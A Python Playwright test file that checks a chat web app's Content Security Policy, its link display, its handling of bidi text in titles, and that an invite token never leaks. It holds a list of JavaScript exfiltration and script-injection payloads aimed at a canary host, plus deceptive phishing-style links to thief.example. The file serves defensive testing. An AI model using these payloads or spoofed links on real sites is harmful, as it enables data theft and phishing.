"""The page's second line: what its policy refuses by itself, where its links say they lead, and
where its token goes."""

import re

from playwright.sync_api import Error, expect

from tests.support.hostile_page import AFTER_ALL
from tests.support.seeded_guest import SeededGuest

pytest_plugins = ["tests.support.hostile_page"]

# What a hole in the first line could try, each as a statement that runs with the page's own rights.
# NUMBER tells which one the canary or the page heard of.
ATTEMPTS = {
    "an image": "new Image().src = 'http://CANARY/NUMBER'",
    "an image's set": "add('img', {srcset: 'http://CANARY/NUMBER 1x'})",
    "fetch": "fetch('http://CANARY/NUMBER', {mode: 'no-cors'}).catch(() => 0)",
    "a beacon": "navigator.sendBeacon('http://CANARY/NUMBER', 'x')",
    "a socket": "new WebSocket('ws://CANARY/NUMBER')",
    "an event source": "new EventSource('http://CANARY/NUMBER')",
    "a ping": "add('a', {ping: 'http://CANARY/NUMBER', href: '#'}).click()",
    "a frame": "add('iframe', {src: 'http://CANARY/NUMBER'})",
    "an object": "add('object', {data: 'http://CANARY/NUMBER'})",
    "a video": "add('video', {src: 'http://CANARY/NUMBER'})",
    "a font": "new FontFace('x', 'url(http://CANARY/NUMBER)').load().catch(() => 0)",
    "a style sheet": "add('link', {rel: 'stylesheet', href: 'http://CANARY/NUMBER'})",
    "a prefetch": "add('link', {rel: 'prefetch', href: 'http://CANARY/NUMBER'})",
    "an inline style": "add('style', {textContent: 'body { background: url(http://CANARY/NUMBER) }'})",
    "a form": "add('form', {action: 'http://CANARY/NUMBER'}).submit()",
    "a base": "add('base', {href: 'http://CANARY/NUMBER/'}); new Image().src = 'x.png'",
    "a script's address": "add('script', {src: 'http://CANARY/NUMBER'})",
    "a module": "import('http://CANARY/NUMBER').catch(() => 0)",
    "a worker": "new Worker('http://CANARY/NUMBER')",
    "HTML as text": "document.body.insertAdjacentHTML('beforeend', '<img src=http://CANARY/NUMBER>')",
    "an inline script": "add('script', {textContent: 'ran.push(NUMBER)'})",
    "an inline handler": (
        "const b = add('b', {}); b.setAttribute('onclick', 'ran.push(NUMBER)'); b.click()"
    ),
    "a javascript: link": "add('a', {href: 'javascript:ran.push(NUMBER)'}).click()",
    "code from text": "setTimeout('ran.push(NUMBER)')",
}
# What the model writes, and how it shows.
LINKS = {
    "[https://bank.example](http://thief.example/)": "https://bank.example (thief.example)",
    "[bank.example/login](http://bank.example.thief.example/)": (
        "bank.example/login (bank.example.thief.example)"
    ),
    "http://bank.example@thief.example/x": "http://bank.example@thief.example/x (thief.example)",
    "<https://\u0430pple.example/>": "https://\u0430pple.example/ (xn--pple-43d.example)",
    "[\u202emoc.elpmaxe](http://thief.example/)": "\u202emoc.elpmaxe (thief.example)",
    "https://honest.example/a?b": "https://honest.example/a?b",
    "[read this](https://honest.example/ 'https://bank.example')": "read this",
}
ADD = (
    "const add = (tag, props) => "
    "document.body.appendChild(Object.assign(document.createElement(tag), props));"
)


def test_the_policy_alone_refuses_what_a_hole_could_try(stack, hostile, canary):
    page = hostile(SeededGuest(stack, "mallory")).page
    page.evaluate("window.ran = []")
    for number, (name, statement) in enumerate(ATTEMPTS.items()):
        armed = canary.arm(f"() => {{ {ADD} {statement} }}").replace("NUMBER", str(number))
        try:
            page.evaluate(armed)
        except Error as refused:
            assert any(
                why in str(refused) for why in ("Trusted", "Content Security Policy", "denied")
            ), name
    page.evaluate(AFTER_ALL)
    page.wait_for_timeout(500)  # a prefetch waits until nothing else is to do
    canary.settle()
    # Before a frame or a form Chromium may open a connection ahead of its policy; without a
    # request it says nothing.
    asked = [path for path in canary.heard if path != "a connection"]
    names = list(ATTEMPTS)
    allowed = [int(re.search(r"\d+", path)[0]) for path in asked] + page.evaluate("window.ran")
    assert [names[number] for number in allowed] == []


def test_the_policy_allows_nothing_inline_and_no_foreign_script(stack):
    (policy,) = {
        line.split('content="')[1].split('"')[0]
        for line in stack.page().text.splitlines()
        if "Content-Security-Policy" in line
    }
    rules = {words[0]: words[1:] for words in (rule.split() for rule in policy.split("; "))}
    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == ["'none'"]
    assert rules["script-src"] == rules["style-src"] == ["'self'"]
    assert rules["require-trusted-types-for"] == ["'script'"]
    assert "unsafe" not in policy
    assert "*" not in policy


def test_a_link_that_looks_like_another_address_says_where_it_leads(stack, hostile):
    seeded = SeededGuest(stack, "mallory")
    watch = hostile(seeded, seeded.conversation("Links", LINKS))
    links = watch.page.locator('[data-role="assistant"] .message-text a')
    expect(links).to_have_text(list(LINKS.values()))
    seen = links.evaluate_all(
        "all => all.map(link => [link.title === link.href, getComputedStyle(link).unicodeBidi])"
    )
    assert seen == [[True, "isolate"]] * len(LINKS)
    assert watch.trouble() == []


def test_a_title_turns_no_sentence_round(stack, hostile):
    seeded = SeededGuest(stack, "mallory")
    watch = hostile(seeded, seeded.conversation("\u202eabc\u2067 \u05d0", ["\u202eHello"]))
    page = watch.page
    expect(page.locator('[data-role="assistant"]')).to_have_count(1)
    expect(page).to_have_title("\u2068abc \u05d0\u2069 – Forever Us")
    page.get_by_role("button", name="Delete").first.click(force=True)
    expect(page.locator('[data-part="dialog-text"]')).to_have_text(
        "“\u2068abc \u05d0\u2069” and all its messages will be gone for good."
    )
    assert page.locator("[dir]:not([dir=auto]):not([dir=ltr])").count() == 0
    assert (
        page.locator('[data-part="app"]').evaluate("app => getComputedStyle(app).direction")
        == "ltr"
    )


def test_the_token_shows_nowhere(stack, visit):
    guest, said = visit(), []
    seeded = SeededGuest(stack, "mallory")
    guest.page.on(
        "request", lambda request: said.append((request.url, request.headers.get("referer", "")))
    )
    guest.page.on("websocket", lambda socket: said.append((socket.url, "")))
    page = guest.open(seeded.link)
    page.get_by_role("textbox", name="Message").fill("Say hello in one short sentence.")
    page.get_by_role("button", name="Send").click()
    expect(page.locator('[data-role="assistant"][data-status="complete"]')).to_have_count(1)
    assert len(said) > 20
    # The link itself is navigated to with its fragment, which a browser keeps to itself.
    urls = [url.split("#invite=")[0] for url, _ in said]
    assert not [url for url in urls if seeded.token in url]
    assert {referrer for _, referrer in said} == {""}
    seen = (
        "[document.documentElement.outerHTML, document.cookie, location.href, "
        "...navigation.entries().map(entry => entry.url)]"
    )
    assert seeded.token not in "".join(page.evaluate(seen))
    page.go_back()
    assert seeded.token not in page.url
    kept = [
        path
        for path in (stack.folder / ".local").rglob("*")
        if path.is_file() and path.name != "owner-token"
    ]
    assert any(path.suffix == ".log" for path in kept)
    tokens = [seeded.token.encode(), stack.token.encode()]
    assert [path.name for path in kept if any(token in path.read_bytes() for token in tokens)] == []
